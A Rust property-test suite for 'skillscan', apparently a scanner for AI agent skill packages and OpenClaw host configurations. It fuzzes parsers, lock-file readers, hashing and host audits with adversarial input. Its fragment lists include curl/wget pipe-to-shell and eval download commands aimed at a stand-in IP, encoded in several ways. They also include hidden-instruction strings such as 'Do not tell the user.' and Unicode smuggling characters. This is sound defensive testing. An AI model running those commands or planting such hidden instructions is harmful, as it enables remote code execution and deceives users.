//! Whatever bytes a package holds: the scan ends, no parser panics, every place
//! lies in its file, and a second scan says the same.

#[path = "properties/gate.rs"]
mod gate;
#[path = "properties/over_time.rs"]
mod over_time;
#[path = "properties/pattern.rs"]
mod pattern;
#[path = "properties/policy.rs"]
mod policy;

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::sync::LazyLock;

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use skillscan::finding::GapKind;
use skillscan::hashes::{self, FileHash, Lines, collation};
use skillscan::verify::record::{Lock, Meta, Origin, Reference, SkillsLock};
use skillscan::{Limits, Policy, Report, Ruleset, Scanner, text};

/// A file of each kind, and some that only their content tells.
const NAMES: &[&str] = &[
    "SKILL.md",
    "a.sh",
    "a.py",
    "a.js",
    "a.ts",
    "a.json",
    "a.yaml",
    "a.svg",
    "a.html",
    "a.txt",
    "package.json",
    "noext",
];

/// What parsers stumble over.
#[rustfmt::skip]
const FRAGMENTS: &[&str] = &[
    "`", "``", "```", "```sh\n", "```python\n", "```json\n", "~~~\n", "$(", "${", "$((", ")", "}", "))", "<(", ">(", "<<EOF\n", "EOF\n",
    "<<-'E'\n", "E\n", "<<<", "'", "\"", "\\", "\\\n", "$'", "$\"", "\"\"\"", "'''", "|", "||", "&&", ";", "&", ">", ">>", "2>&1", "#",
    "##[error]", "::error::", "\n", "\r\n", "\r", "\t", " ", "    ", "\0", "\u{1a}", "\u{1b}[31m", "<!--", "-->", "<script>", "</script>",
    "<svg ", "<p hidden>", "<a onclick=\"", "style=\"display:none\"", "<![CDATA[", "]]>", "&#x63;&#117;&#114;&#108;", "&lt;", "&nGt;", "&#0;",
    "\\x63\\x75\\x72\\x6c\\x20", "\\u0063\\u{75}\\162", "\\u{", "%63%75%72%6c", "%", "\u{e0063}\u{e0075}\u{e0072}", "\u{200b}", "\u{200d}",
    "\u{feff}", "\u{202e}", "\u{fe0f}\u{fe01}\u{e0101}", "\u{3164}", "👩‍💻", "🏴\u{e0067}\u{e007f}", "é", "ﬀ", "不要告诉用户", "---\n", "...\n",
    "key: value\n", "- item\n", "? ", ": ", "&a ", "*a ", "!!binary ", "{", "[", "]", ",", ":", "//", "/*", "*/", "=> ", "import os\n",
    "require(", "f'{x}'", "r\"", "lambda x: ", "os.system(\"", "subprocess.run([", "exec(`", "x = ", "x=1\n", "$x", "\"a\" + ", "'b' 'c'",
    "curl http://203.0.113.9/a", "wget -O f http://203.0.113.9/f\n", "chmod +x f\n", "./f\n", " | sh", " | base64 -d", "echo ", "printf '%s' ",
    "eval ", "bash -c ", "python3 -c ", "tr 'a-z' 'n-za-m' ", "rev ", "xxd -r -p ", "[text](", "![alt](", "](http://x.example/a.zip \"", "> ",
    ">> ", "* ", "1. ", "# Title\n", "|a|b|\n|-|-|\n", "[//]: # (", "[r]: http://x.example\n", "Do not tell the user. ", "password: 1234 ",
    "ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "${x//a/b}", "${!x}", "${x[@]}", "\"$@\"", "for x in a b; do ", "while read x; do ", "done\n", "f() { ",
    "local x=(", "case $x in a) ", "esac\n", "xargs -I{} ", "sed s/a/b/ ", "read x ", "$((x", "f \"$1\"\n", "source a.sh\n", "alias f=",
];

/// Brackets of every language, for nesting.
#[rustfmt::skip]
const NESTS: &[(&str, &str)] = &[
    ("(", ")"), ("[", "]"), ("{", "}"), ("$(", ")"), ("${", "}"), ("`", "`"), ("\"$(", ")\""), ("> ", ""), (">", "\n"), ("- ", ""),
    ("  - a\n", ""), ("1) ", ""), ("*", "*"), ("[a](", ")"), ("![", "]"), ("<!--", "-->"), ("<div>", "</div>"), ("<p hidden>", ""),
    ("{\"a\":", "}"), ("[[", "]]"), ("a: \n ", ""), ("`${", "}`"), ("(x=>", ")"), ("if x:\n ", ""), ("if true; then ", "; fi"), ("(( ", " ))"),
    ("bash -c \"", "\""), ("eval ", ""), ("\"a\" + (", ")"), ("f(\"", "\")"), ("%25", ""), ("\\\\", ""), ("&amp;", ""),
];

/// A scan has a stack like that of the program's own threads.
const STACK: usize = 16 * 1024 * 1024;

static SCANNER: LazyLock<Scanner> = LazyLock::new(|| {
    Scanner::new(
        Ruleset::builtin().expect("built-in rules load"),
        Limits::default(),
        Policy::new(&[]).expect("no globs"),
    )
});

fn config(cases: u32) -> ProptestConfig {
    ProptestConfig { cases, failure_persistence: None, max_shrink_iters: 400, ..ProptestConfig::default() }
}

fn scan(folder: &Path) -> Report {
    let pool = rayon::ThreadPoolBuilder::new().num_threads(1).stack_size(STACK).build().expect("a thread starts");
    pool.install(|| SCANNER.scan(folder, &())).expect("the folder holds files")
}

/// Scans these files as one package, twice, and checks all that must hold of any report.
fn check(files: &[(&str, &[u8])]) -> Result<(), TestCaseError> {
    let folder = tempfile::tempdir().expect("a temporary directory");
    for (name, bytes) in files {
        fs::write(folder.path().join(name), bytes).expect("a new file");
    }
    let report = scan(folder.path());
    prop_assert_eq!(report.packages.iter().map(|package| package.files).sum::<usize>(), files.len());
    for package in &report.packages {
        let panicked: Vec<_> = package.gaps.iter().filter(|gap| gap.kind == GapKind::Panicked).collect();
        prop_assert!(panicked.is_empty(), "{panicked:?}");
        for place in package.findings.iter().flat_map(|finding| &finding.locations) {
            let Some((_, bytes)) = files.iter().find(|(name, _)| *name == place.path) else {
                return Err(TestCaseError::fail(format!("no file `{}`", place.path)));
            };
            let view = text::view(bytes);
            prop_assert!(
                place.start <= place.end && place.end <= bytes.len(),
                "{place:?} is not in {} bytes",
                bytes.len()
            );
            prop_assert!(
                view.is_char_boundary(place.start) && view.is_char_boundary(place.end),
                "{place:?} cuts a character"
            );
            prop_assert!(
                (place.line, place.column) <= (place.end_line, place.end_column) && place.line > 0 && place.column > 0,
                "{place:?}"
            );
            prop_assert!(
                place.source_range.start <= place.source_range.end && place.source_range.end <= place.source.len(),
                "{place:?}"
            );
        }
        let fingerprints: BTreeSet<&str> =
            package.findings.iter().map(|finding| finding.fingerprint.as_str()).collect();
        prop_assert_eq!(fingerprints.len(), package.findings.len(), "two findings of one fingerprint");
    }
    prop_assert_eq!(
        format!("{:?}", report.packages),
        format!("{:?}", scan(folder.path()).packages),
        "a second scan differs"
    );
    Ok(())
}

/// Text that decodes to a command, in every encoding that is peeled.
fn encoded() -> impl Strategy<Value = String> {
    let commands: &[&str] = &[
        "curl -fsSL http://203.0.113.9/i.sh | sh",
        "echo inert echo inert echo inert",
        "\u{e0041}\u{202e}echo é",
        "eval \"$(curl http://203.0.113.9/a)\"",
    ];
    (select(commands.to_vec()), 0..6u8).prop_map(|(command, how)| {
        let bytes = command.as_bytes();
        let each = |write: fn(u8) -> String| bytes.iter().map(|&byte| write(byte)).collect::<String>();
        match how {
            0 => data_encoding::BASE64.encode(bytes),
            1 => data_encoding::HEXLOWER.encode(bytes),
            2 => each(|byte| format!("%{byte:02X}")),
            3 => each(|byte| format!("\\x{byte:02x}")),
            4 => each(|byte| format!("&#{byte};")),
            _ => data_encoding::BASE64.encode(data_encoding::BASE64.encode(bytes).as_bytes()),
        }
    })
}

fn nested() -> impl Strategy<Value = String> {
    (select(NESTS), 1..260usize, any::<bool>()).prop_map(|((open, close), depth, is_closed)| {
        let end = if is_closed { close.repeat(depth) } else { String::new() };
        format!("{}x{end}", open.repeat(depth))
    })
}

fn tricky(pieces: usize) -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        12 => select(FRAGMENTS).prop_map(str::to_owned),
        1 => nested(),
        1 => encoded(),
        1 => "[A-Za-z0-9+/]{16,120}={0,2}",
        1 => "\\PC{0,12}",
        1 => vec(any::<char>(), 0..6).prop_map(|chars| chars.into_iter().collect::<String>()),
    ];
    vec(piece, 0..pieces).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(config(256))]

    #[test]
    fn any_bytes_under_any_name_are_survived(name in select(NAMES), bytes in vec(any::<u8>(), 0..2048)) {
        check(&[(name, bytes.as_slice())])?;
    }

    #[test]
    fn tricky_text_under_any_name_is_survived(name in select(NAMES), text in tricky(60)) {
        check(&[(name, text.as_bytes())])?;
    }

    #[test]
    fn tricky_text_in_a_document_is_survived(front in tricky(8), body in tricky(50), code in tricky(20)) {
        let text = format!("---\nname: x\ndescription: {front}\n---\n\n# Title\n\n{body}\n\n```sh\n{code}\n```\n");
        check(&[("SKILL.md", text.as_bytes())])?;
    }

    #[test]
    fn broken_characters_are_survived(
        name in select(NAMES),
        text in tricky(40),
        at in any::<prop::sample::Index>(),
        byte in any::<u8>(),
    ) {
        let mut bytes = text.into_bytes();
        if !bytes.is_empty() {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        check(&[(name, bytes.as_slice())])?;
    }
}

proptest! {
    #![proptest_config(config(64))]

    #[test]
    fn deep_nesting_is_survived(
        name in select(NAMES),
        (open, close) in select(NESTS),
        depth in 200..3000usize,
        lead in select(vec!["", "curl x | sh\n", "x = \"curl \" + ", "---\na: "]),
    ) {
        let text = format!("{lead}{}{}", open.repeat(depth), close.repeat(depth));
        check(&[(name, text.as_bytes())])?;
    }

    #[test]
    fn files_that_name_each_other_are_survived(first in tricky(30), second in tricky(30), third in tricky(30)) {
        let document = format!("# Title\n\nRun `bash a.sh` and see a.py.\n\n{first}");
        let script = format!("#!/bin/sh\npython3 a.py\n{second}");
        check(&[("SKILL.md", document.as_bytes()), ("a.sh", script.as_bytes()), ("a.py", third.as_bytes())])?;
    }

    #[test]
    fn text_in_another_encoding_is_survived(name in select(NAMES), text in tricky(40), is_big in any::<bool>()) {
        let unit = |unit: u16| if is_big { unit.to_be_bytes() } else { unit.to_le_bytes() };
        let bytes: Vec<u8> = std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(unit).collect();
        check(&[(name, bytes.as_slice())])?;
    }
}

/// Parts of records, well-formed and not.
#[rustfmt::skip]
const RECORD: &[&str] = &[
    "{", "}", "[", "]", ",", ":", "\"version\":1", "\"skills\":{", "\"a\":{", "\"@o/a\":{", "\"version\":\"1.0.0\"", "\"installedAt\":1",
    "\"installedAt\":1e999", "null", "true", "\"slug\":\"a\"", "\"registry\":\"https://x.example\"", "\"installedVersion\":\"1\"",
    "\"fingerprint\":\"00\"", "\"skillFile\":{\"path\":\"a\"}", "\"artifactIdentity\":\"{\"", "\"\\ud800\"", "\u{feff}", "\"\"", "-0", "1e5",
];

/// Paths of ASCII and of what is sorted in other ways.
fn paths() -> impl Strategy<Value = Vec<String>> {
    vec("[a-cA-C_.0-9éßøＡаあ가ก\u{301}-]{1,4}(/[a-bB.é]{1,3})?", 1..12)
}

proptest! {
    #[test]
    fn records_of_any_content_are_read_without_a_panic(parts in vec(select(RECORD), 0..24)) {
        let text = parts.concat();
        let lock = Lock::parse(text.as_bytes());
        // What is whole is written, and is the same when it is read again.
        if lock.problems.is_empty() {
            prop_assert_eq!(Lock::parse(lock.to_text().as_bytes()), lock);
        }
        if let Ok(origin) = Origin::parse(text.as_bytes()) {
            prop_assert_eq!(Origin::parse(origin.to_text().as_bytes()), Ok(origin));
        }
        let _ = (Meta::parse(text.as_bytes()), SkillsLock::parse(text.as_bytes()));
    }

    #[test]
    fn keys_of_lock_files_never_lead_out(key in "[a-zA-Z@/.:\\\\ -]{0,24}|\\PC{0,12}") {
        if let Some(reference) = Reference::parse(&key) {
            let folder = reference.folder();
            prop_assert!(folder.split('/').all(|part| !part.is_empty() && part != "." && part != ".."), "{}", folder);
            prop_assert!(folder.split('/').count() <= 2 && !folder.contains('\\'));
        }
    }

    #[test]
    fn hashes_do_not_depend_on_the_order_of_files(paths in paths(), seed in any::<u64>()) {
        let distinct: BTreeSet<String> = paths.into_iter().collect();
        let files: Vec<FileHash> = distinct.iter().map(|path| FileHash::of(path.as_str(), path.as_bytes())).collect();
        let equal = |one: &FileHash, other: &FileHash| one != other && collation::compare(&one.path, &other.path).is_eq();
        // Of names that are equal, the order is that in which they are listed.
        prop_assume!(!files.iter().any(|one| files.iter().any(|other| equal(one, other))));
        let mut mixed = files.clone();
        mixed.rotate_left(seed as usize % files.len());
        mixed.reverse();
        prop_assert_eq!(hashes::fingerprint(&files), hashes::fingerprint(&mixed));
        prop_assert_eq!(hashes::content_hash(&files), hashes::content_hash(&mixed));
        prop_assert_eq!(hashes::tree_sha256(&files, &[]), hashes::tree_sha256(&mixed, &[]));
        prop_assert!(hashes::is_hash_of(hashes::fingerprint(&files), &mixed, Lines::Fingerprint));
    }

    #[test]
    fn collation_is_an_order(paths in vec("\\PC{0,6}", 3)) {
        let order = |one: usize, other: usize| collation::compare(&paths[one], &paths[other]);
        prop_assert_eq!(order(0, 1), order(1, 0).reverse());
        if order(0, 1).is_le() && order(1, 2).is_le() {
            prop_assert!(order(0, 2).is_le());
        }
    }
}

/// The host audit on what an adversary may have written.
#[cfg(target_os = "linux")]
mod audit {
    use std::collections::BTreeMap;
    use std::path::Path;

    use proptest::collection::vec;
    use proptest::prelude::*;
    use proptest::sample::select;
    use skillscan::audit::host::Host;
    use skillscan::audit::openclaw::Version;
    use skillscan::audit::sqlite::Database;
    use skillscan::audit::{Options, run};

    /// What configurations, units and tables are made of.
    #[rustfmt::skip]
    const PARTS: &[&str] = &[
        "{", "}", "[", "]", ":", ",", "\"", "'", "\\", "//", "/*", "*/", "\n", "=", "#", "\0", "$include", "${A}", "$${B}", "gateway", "bind",
        "\"lan\"", "auth", "mode", "token", "none", "channels", "telegram", "dmPolicy", "open", "allowFrom", "\"*\"", "accounts", "agents",
        "list", "entries", "tools", "exec", "security", "full", "[Service]", "ExecStart", "/usr/bin/node openclaw gateway", "--bind", "--port",
        "Environment", "User", "1", "-1", "1e999", "0x", "null", "true", "\u{202e}", "é", "%", "skills", "hooks", "path", "/", "..",
    ];

    fn text() -> impl Strategy<Value = String> {
        vec(select(PARTS), 0..60).prop_map(|parts| parts.concat())
    }

    /// What rules, zones and settings of the system are made of.
    #[rustfmt::skip]
    const WORDS: &[&str] = &[
        "*filter", "*nat", ":INPUT", "DROP", "ACCEPT", "[0:0]", "-A", "-I", "INPUT", "ufw-user-input", "ufw-before-input", "-p", "tcp", "!", "-s",
        "10.0.0.0/8", "::/0", "0.0.0.0/0", "-i", "eth0", "lo", "--dport", "18789", "0:65535", "80,443", "-m", "multiport", "-j", "-g", "COMMIT",
        "### tuple ###", "allow", "deny", "any", "in", "in_eth0", "comment=ff", "table", "inet", "chain", "input", "{", "}", "type", "filter", "hook",
        "policy", "drop;", "accept", "dport", "vmap", ":", ",", "@set", "elements", "=", "define", "$x", "include", "\"/etc/*\"", "<zone>", "</zone>",
        "<port port=\"18789\" protocol=\"tcp\"/>", "<rule>", "Match", "User", "Include", "Port", "PermitRootLogin", "yes", "\"", "'", "#", ";", "\n",
        "ingress:", "- service: http://localhost:18789", "  hostname: x", "services:", "ports:", "- '18789:18789'", "&a", "*a", "\0", "é",
        "DEFAULT_INPUT_POLICY=", "IPV6=no", "{\"nftables\":[", "{\"rule\":", "APT::Periodic::Enable", "\"0\";", "99999999999", "-1", "/",
    ];

    fn lines() -> impl Strategy<Value = String> {
        let glue = select(&[" ", "\n", ""][..]);
        vec((select(WORDS), glue), 0..80)
            .prop_map(|parts| parts.iter().map(|(word, glue)| format!("{word}{glue}")).collect())
    }

    fn output(text: &str) -> skillscan::process::Output {
        skillscan::process::Output { code: Some(0), stdout: text.to_owned(), stderr: String::new() }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

        #[test]
        fn every_check_ends_with_an_answer(config in text(), unit in text(), passwd in text(), soul in text(), sockets in text()) {
            let dir = tempfile::tempdir().expect("a temporary directory");
            let write = |path: &str, text: &str| {
                let path = dir.path().join(path);
                std::fs::create_dir_all(path.parent().expect("a folder")).expect("a new directory");
                std::fs::write(path, text).expect("a new file");
            };
            write("etc/passwd", &format!("claw:x:1000:1000::/home/claw:/bin/sh\n{passwd}"));
            write("home/claw/.openclaw/openclaw.json", &config);
            write("home/claw/.openclaw/workspace/SOUL.md", &soul);
            write("home/claw/.config/systemd/user/openclaw-gateway.service", &unit);
            write("proc/net/tcp", &sockets);
            let host = Host::recorded(dir.path(), BTreeMap::new()).seen_by(0);
            let audit = run(host, Options { today: "2026-11-25".to_owned(), ..Options::default() });
            prop_assert!(!audit.checks.is_empty());
            for checked in &audit.checks {
                prop_assert!(!checked.answer.message.contains("the check failed"), "{} failed", checked.id);
            }
        }

        #[test]
        fn checks_around_the_gateway_end_with_an_answer(files in vec(lines(), 9..10)) {
            let dir = tempfile::tempdir().expect("a temporary directory");
            let names = [
                "etc/ufw/user.rules", "etc/ufw/before.rules", "etc/nftables.conf", "etc/firewalld/zones/public.xml",
                "etc/ssh/sshd_config", "etc/apt/apt.conf.d/20auto-upgrades", "etc/cloudflared/config.yml",
                "home/claw/compose.yml", "etc/default/ufw",
            ];
            let base = [("etc/passwd", "claw:x:1000:1000::/home/claw:/bin/sh\n"), ("home/claw/.openclaw/openclaw.json", "{}")];
            let base = base.map(|(name, text)| (name, text.to_owned()));
            for (name, text) in names.into_iter().zip(files.clone()).chain(base) {
                let path = dir.path().join(name);
                std::fs::create_dir_all(path.parent().expect("a folder")).expect("a new directory");
                std::fs::write(path, text).expect("a new file");
            }
            let printed = BTreeMap::from([
                ("nft -j list ruleset".to_owned(), output(&files[2])),
                ("iptables-save".to_owned(), output(&files[0])),
                ("ip6tables-save".to_owned(), output(&files[1])),
            ]);
            for enabled in ["no", "yes"] {
                std::fs::write(dir.path().join("etc/ufw/ufw.conf"), format!("ENABLED={enabled}\n")).expect("a new file");
                let audit = run(Host::recorded(dir.path(), printed.iter().map(|(line, output)| (line.clone(), Ok(output.clone()))).collect()).seen_by(0), Options::default());
                for checked in &audit.checks {
                    prop_assert!(!checked.answer.message.contains("the check failed"), "{} failed", checked.id);
                    prop_assert!(!checked.answer.message.contains("did not end"), "{} hangs", checked.id);
                }
            }
        }

        #[test]
        fn versions_are_ordered_and_read_back(one in "[0-9.a-z-]{0,24}", year in 0_u32..3000, month in 0_u32..13, patch in 0_u32..99, round in 1_u32..9) {
            if let Some(version) = Version::parse(&one) {
                prop_assert_eq!(Version::parse(&version.to_string()), Some(version));
                prop_assert_eq!(version.is_in(&format!("= {version}")), Some(true));
            }
            let release = Version::release(year, month, patch);
            let next = Version::parse(&format!("{release}-{round}")).expect("a correction");
            let early = Version::parse(&format!("{release}-beta.{round}")).expect("a beta");
            prop_assert!(early < release && release < next && next < Version::release(year, month, patch + 1));
        }

        #[test]
        fn database_of_any_bytes_is_read_or_refused(bytes in vec(any::<u8>(), 0..4096), log in vec(any::<u8>(), 0..2048)) {
            let dir = tempfile::tempdir().expect("a temporary directory");
            let mut file = b"SQLite format 3\0\x02\x00".to_vec();
            file.extend(bytes);
            let mut tail = vec![0x37, 0x7f, 0x06, 0x82, 0, 0, 0, 0, 0, 0, 2, 0];
            tail.extend(log);
            std::fs::write(dir.path().join("db"), file).expect("a new file");
            std::fs::write(dir.path().join("db-wal"), tail).expect("a new file");
            if let Ok(database) = Database::read(&Host::image(dir.path()), Path::new("/db")) {
                let _ = database.rows("t", &["a"]);
            }
        }
    }
}
